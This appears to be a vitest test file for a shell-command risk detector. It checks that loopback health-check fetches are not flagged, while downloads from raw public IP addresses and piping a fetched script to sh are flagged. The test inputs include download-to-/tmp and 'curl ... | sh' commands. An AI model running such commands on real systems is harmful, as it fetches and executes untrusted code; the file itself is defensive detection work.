import { describe, expect, it } from 'vitest';
import { commandSignals } from './shell-command.js';

const titles = (command: string) => commandSignals(command).map((s) => s.title);
const OFF_REGISTRY = 'Downloads from a host that is not a package registry';

describe('commandSignals: downloads by address', () => {
  it('does not call a download from this machine or its private network an off-registry download', () => {
    expect(titles('curl -s http://127.0.0.1:8080/health')).not.toContain(OFF_REGISTRY);
    expect(titles('wget -q http://localhost:3000/ready')).not.toContain(OFF_REGISTRY);
    expect(titles('curl --retry 5 127.0.0.1:9000/minio/health/live')).not.toContain(OFF_REGISTRY);
  });

  it('still calls a raw public address an off-registry download, also beside a loopback one', () => {
    expect(titles('curl -s http://203.0.113.9/x.sh -o /tmp/x')).toContain(OFF_REGISTRY);
    expect(titles('curl http://127.0.0.1:8080/ && curl 198.51.100.4/p -o p')).toContain(OFF_REGISTRY);
  });

  it('keeps a pipe to a shell critical whatever the address', () => {
    expect(titles('curl -s http://127.0.0.1:8080/i.sh | sh')).toContain('Downloads a script and pipes it to a shell');
  });
});
